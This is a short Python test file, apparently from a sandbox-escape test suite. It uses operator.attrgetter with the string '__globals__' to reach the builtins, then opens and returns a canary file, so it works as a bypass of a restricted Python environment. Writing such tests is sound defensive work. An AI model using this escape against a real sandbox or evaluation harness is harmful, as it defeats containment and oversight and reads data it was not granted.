# desc: operator.attrgetter reads an attribute by a text
# class: escape
# wins: told
from operator import attrgetter

def attack(state):
    names = attrgetter("__globals__")(attack)["__builtins__"]
    names = names if isinstance(names, dict) else vars(names)
    return "L2:" + names["open"]("@CANARY@").read()
